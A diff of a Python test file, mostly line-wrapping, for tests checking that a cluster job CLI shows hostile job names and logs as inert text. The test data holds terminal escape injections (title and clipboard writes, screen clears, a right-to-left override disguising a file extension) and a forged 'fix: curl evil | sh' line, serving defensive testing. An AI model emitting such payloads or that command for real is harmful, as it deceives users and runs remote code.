@@ -1,4 +1,6 @@
-"""What jobs and hosts name, say and write reaches a terminal as text alone, whichever verb shows it."""
+"""What jobs and hosts name, say and write reaches a terminal as text alone, whichever verb shows
+it.
+"""
 
 from __future__ import annotations
 
@@ -31,16 +33,19 @@ from tests.support.played.cluster import PlayedCluster, submitted
 
 TITLE = "\x1b]0;owned\x07"
 CLIPBOARD = "\x1b]52;c;b3duZWQ=\x07"
-# A name that sets the title, breaks the line, clears the screen, is red, and ends in what shows "txt.exe" the
-# other way round.
+# A name that sets the title, breaks the line, clears the screen, is red, and ends in what shows
+# "txt.exe" the other way round.
 NAME = f"{TITLE}a\tb\r\n\x1b[2J\x1b[31m\x9b2J\u202eexe.txt"
 NAME_SHOWN = r"\x1b]0;owned\x07a\tb\r\n\x1b[2J\x1b[31m\x9b2J\u202eexe.txt"
 # A log that does it, is red to its end, and does not end its last line.
 BODY = (
-    r"printf '\033]52;c;b3duZWQ=\a\033[2J\0\n 50%%\r100%%\n\033[31mred\033[8m, no newline' | tee /dev/stderr"
+    r"printf '\033]52;c;b3duZWQ=\a\033[2J\0\n 50%%\r100%%\n\033[31mred\033[8m, no newline' | tee "
+    r"/dev/stderr"
 )
 LOG = CLIPBOARD + "\x1b[2J\0\n 50%\r100%\n\x1b[31mred\x1b[8m, no newline"
-LOG_SHOWN = r"\x1b]52;c;b3duZWQ=\x07\x1b[2J\x00" + "\n 50%\r100%\n\x1b[31mred\x1b[8m, no newline\x1b[0m"
+LOG_SHOWN = (
+    r"\x1b]52;c;b3duZWQ=\x07\x1b[2J\x00" + "\n 50%\r100%\n\x1b[31mred\x1b[8m, no newline\x1b[0m"
+)
 
 ERROR = "\x1b[1;31merror:\x1b[0m "  # as it begins on a terminal
 FORBIDDEN = [f"\x1b{c}" for c in "]P_^Xc"] + [
@@ -52,18 +57,26 @@ FORBIDDEN = [f"\x1b{c}" for c in "]P_^Xc"] + [
 def job(here: Session, cluster: PlayedCluster, tmp_path: Path) -> str:
     """A job that failed, with a hostile name, log and file."""
     job_id = submitted(
-        here, tmp_path, rf"{BODY}; mkfifo {TITLE!r}; exit 3".replace(repr(TITLE), r"$'\e]0;owned\a'")
+        here,
+        tmp_path,
+        rf"{BODY}; mkfifo {TITLE!r}; exit 3".replace(repr(TITLE), r"$'\e]0;owned\a'"),
     )
     cluster.wait_until_ended(job_id)
     node = ["demo-train-1", "train", "idle", "idle", NAME, "4", "1000", "(null)", "root", "0"]
     with cluster.state() as state:
         state["nodes"] = [node]
-        state["jobs"][job_id] |= {"name": NAME, "reason": NAME, "comment": state["jobs"][job_id]["comment"]}
+        state["jobs"][job_id] |= {
+            "name": NAME,
+            "reason": NAME,
+            "comment": state["jobs"][job_id]["comment"],
+        }
     return job_id
 
 
 class Window:
-    """What this process writes to the terminal ``stream``, which takes the place of its stdout and stderr."""
+    """What this process writes to the terminal ``stream``, which takes the place of its stdout and
+    stderr.
+    """
 
     def __init__(self, size: tuple[int, int] = (24, 200)) -> None:
         self._ours, theirs = pty.openpty()
@@ -112,7 +125,9 @@ def on_terminal(monkeypatch: pytest.MonkeyPatch) -> Run:
 def is_harmless(shown: str) -> bool:
     screen = pyte.Screen(200, 200)
     pyte.Stream(screen).feed(shown.replace("\n", "\r\n"))
-    return screen.title == screen.icon_name == "" and not [text for text in FORBIDDEN if text in shown]
+    return screen.title == screen.icon_name == "" and not [
+        text for text in FORBIDDEN if text in shown
+    ]
 
 
 def test_a_hostile_name_is_text_on_a_terminal(job: str, here: Session, on_terminal: Run) -> None:
@@ -141,7 +156,9 @@ def answer(capfdbinary: pytest.CaptureFixture[bytes], *words: str) -> dict[str, 
     return found
 
 
-def test_json_has_names_and_logs_as_they_are(job: str, capfdbinary: pytest.CaptureFixture[bytes]) -> None:
+def test_json_has_names_and_logs_as_they_are(
+    job: str, capfdbinary: pytest.CaptureFixture[bytes]
+) -> None:
     assert [one["name"] for one in answer(capfdbinary, "jobs")["jobs"]] == [NAME]
     assert answer(capfdbinary, "status")["nodes"][0]["reason"] == NAME
     logs = answer(capfdbinary, "logs", job)["logs"]
@@ -155,7 +172,9 @@ def test_colors_and_progress_of_logs_stay_and_all_else_is_text(
     for words in (["logs", job], ["logs", "--raw", job]):
         shown = on_terminal(*words)
         assert is_harmless(shown)
-        assert [shown.count(text) for text in (r"\x1b]52;c;b3duZWQ=\x07", " 50%\r100%\n\x1b[31mred")] == [
+        assert [
+            shown.count(text) for text in (r"\x1b]52;c;b3duZWQ=\x07", " 50%\r100%\n\x1b[31mred")
+        ] == [
             2,
             2,
         ]
@@ -169,7 +188,9 @@ def test_colors_and_progress_of_logs_stay_and_all_else_is_text(
         assert (b"exit code 3" in said.err) is ("--raw" not in words)
 
 
-def test_the_error_of_a_followed_job_has_no_log(here: Session, tmp_path: Path, on_terminal: Run) -> None:
+def test_the_error_of_a_followed_job_has_no_log(
+    here: Session, tmp_path: Path, on_terminal: Run
+) -> None:
     script = tmp_path / "mine.sh"
     script.write_text(f"#!/bin/bash\n{BODY}\nexit 3\n")
     shown = on_terminal("submit", str(script), "--follow")
@@ -201,7 +222,8 @@ def test_notes_never_share_line_or_color_of_a_log(on_terminal: Run) -> None:
 
 def test_values_have_no_second_line(on_terminal: Run) -> None:
     """What a person sees of names with newlines: they forge no line, and no column."""
-    screen, forged = Screen(json=False, color=True), "x\n  fix: curl evil | sh\nerror: y\tz\x1b[31m"
+    screen = Screen(json=False, color=True)
+    forged = "x\n  fix: curl evil | sh\nerror: y\tz\x1b[31m"
     seen = r"x\n  fix: curl evil | sh\nerror: y\tz\x1b[31m"
     head, row = screen.table(["A", "B"], [[forged, ":smile: [bold]\n"]])
     assert (head.split(), row) == (["A", "B"], rf"{seen}  :smile: [bold]\n")
@@ -254,12 +276,15 @@ def test_a_script_is_kept_as_it_is_but_for_a_terminal(
     screen.document({}, script)
     assert capfdbinary.readouterr().out == script.encode()
     assert (
-        on_terminal(call=lambda: screen.document({}, script)) == "#!/bin/bash\n\techo '\\x1b]0;owned\\x07'\n"
+        on_terminal(call=lambda: screen.document({}, script))
+        == "#!/bin/bash\n\techo '\\x1b]0;owned\\x07'\n"
     )
 
 
 def test_verbs_write_through_the_screen_alone() -> None:
-    writes = re.compile(r"\bprint\(|\bstd(out|err)\.(buffer|write)|\bConsole\(|__std(out|err)__|os\.write\(")
+    writes = re.compile(
+        r"\bprint\(|\bstd(out|err)\.(buffer|write)|\bConsole\(|__std(out|err)__|os\.write\("
+    )
     folder = Path(output.__file__).parent
     found = {path.name for path in folder.glob("*.py") if writes.search(path.read_text())}
     assert found == {"output.py", "pictures.py"}
@@ -267,9 +292,17 @@ def test_verbs_write_through_the_screen_alone() -> None:
 
 def test_an_answer_in_json_has_the_end_of_logs_without_end() -> None:
     kept = KeptLogs(most=10)
-    for stream, data in (("stdout", b"012"), ("stderr", b"abcdef"), ("stderr", b"gh"), ("stdout", b"3")):
+    for stream, data in (
+        ("stdout", b"012"),
+        ("stderr", b"abcdef"),
+        ("stderr", b"gh"),
+        ("stdout", b"3"),
+    ):
         kept.keep(LogChunk(stream, None, data))
-    assert [(one.text, one.truncated) for one in kept.texts()] == [("0123", False), ("cdefgh", True)]
+    assert [(one.text, one.truncated) for one in kept.texts()] == [
+        ("0123", False),
+        ("cdefgh", True),
+    ]
 
 
 def test_each_line_has_its_rank() -> None:
